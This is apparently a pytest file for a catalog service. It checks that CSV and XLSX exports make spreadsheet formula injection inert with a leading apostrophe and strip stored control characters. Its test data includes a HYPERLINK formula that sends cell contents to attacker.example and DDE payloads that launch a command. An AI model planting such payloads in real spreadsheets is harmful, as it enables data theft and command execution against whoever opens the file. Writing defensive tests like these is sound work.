"""Catalog exports people open in a spreadsheet (issue 9): formula-like text is made inert (a
leading apostrophe, OWASP), plain negative numbers stay numbers, and control characters stored
before the import refused them never break the public XLSX export."""

import io

import pytest
from openpyxl import load_workbook

from kwamdee.catalog.models import Category, DeedType
from kwamdee.catalog.validation import COLUMNS
from kwamdee.exchange.services import catalog_export, catalog_import
from tests.exchange.test_services import csv_table, snapshot

pytestmark = pytest.mark.usefixtures("default_catalog")

HYPERLINK = '=HYPERLINK("https://attacker.example/?d="&A1,"คลิกเพื่อรับรางวัล")'
CODE = "returning-lost-property"
STAFF_ENTERED = {
    "name_th": HYPERLINK,
    "name_en": "+1+cmd|' /C calc'!A0",
    "description_th": "@SUM(1+1)*cmd|' /C calc'!A0",
    "description_en": "-5",  # a plain negative number: left as it is
    "unit_name_th": "-2+3",  # starts like a number, but is a formula
}


@pytest.fixture
def formulas(default_catalog):
    DeedType.objects.filter(code=CODE).update(**STAFF_ENTERED)


def csv_row(code: str) -> dict[str, str]:
    table = csv_table(catalog_export("csv"))
    row = next(r for r in table[1:] if r[0] == code)
    return dict(zip(table[0], row, strict=True))


def xlsx_cells(sheet_name: str, code: str) -> dict[str, object]:
    """The cells of one row, by column, as openpyxl reads them (value and type)."""
    sheet = load_workbook(io.BytesIO(catalog_export("xlsx")))[sheet_name]
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == code)
    return {name: (cell.value, cell.data_type) for name, cell in zip(header, row, strict=True)}


@pytest.mark.usefixtures("formulas")
def test_csv_export_makes_formulas_inert():
    row = csv_row(CODE)
    assert row["name_th"] == "'" + HYPERLINK
    assert row["name_en"] == "'+1+cmd|' /C calc'!A0"
    assert row["description_th"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["unit_name_th"] == "'-2+3"
    assert row["description_en"] == "-5"
    assert row["credit_per_unit"] == "20"


@pytest.mark.usefixtures("formulas")
def test_xlsx_export_makes_formulas_inert_text():
    cells = xlsx_cells("deed_types", CODE)
    assert cells["name_th"] == ("'" + HYPERLINK, "s")  # text, not a formula ("f")
    assert cells["name_en"] == ("'+1+cmd|' /C calc'!A0", "s")
    assert cells["description_th"] == ("'@SUM(1+1)*cmd|' /C calc'!A0", "s")
    assert cells["unit_name_th"] == ("'-2+3", "s")
    assert cells["description_en"] == ("-5", "s")


def test_tab_and_carriage_return_leading_cells_are_inert():
    Category.objects.filter(code="volunteering").update(name_en="\t=1+1", description_en="\r=1+1")
    cells = xlsx_cells("categories", "volunteering")
    assert cells["name_en"] == ("'\t=1+1", "s")
    # XML reads a carriage return back as a newline: the apostrophe is what matters
    assert cells["description_en"][0][0] == "'" and cells["description_en"][1] == "s"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.usefixtures("formulas")
def test_inert_export_imports_back_unchanged(staff, fmt):
    before = snapshot()
    summary = catalog_import(actor=staff, fmt=fmt, content=catalog_export(fmt))
    assert summary["created"] == summary["updated"] == 0
    assert snapshot() == before
    assert DeedType.objects.get(code=CODE).name_th == HYPERLINK


def test_stored_control_characters_never_break_the_public_xlsx_export(client):
    # given category fields and a deed type name stored with control characters (from before
    # the import refused them); one would expose a formula once removed
    Category.objects.filter(code="volunteering").update(
        name_th="จิตอาสา\x01\x02", description_th="บรรทัด\x0bหนึ่ง", name_en="\x1b=1+1"
    )
    DeedType.objects.filter(code=CODE).update(name_en="Returning\x08 lost property")

    # when anyone downloads the XLSX export, from the page and from the API
    page = client.get("/catalog/export/xlsx/")
    api = client.get("/api/v1/catalog/export?format=xlsx")

    # then both succeed, without the characters, and the formula stays inert
    assert page.status_code == api.status_code == 200
    workbook = load_workbook(io.BytesIO(page.content))
    categories = {r[0]: r for r in workbook["categories"].iter_rows(min_row=2, values_only=True)}
    assert categories["volunteering"][1:4] == ("จิตอาสา", "'=1+1", "บรรทัดหนึ่ง")
    name_en = COLUMNS.index("name_en")
    deed_types = {r[0]: r for r in workbook["deed_types"].iter_rows(min_row=2, values_only=True)}
    assert deed_types[CODE][name_en] == "Returning lost property"
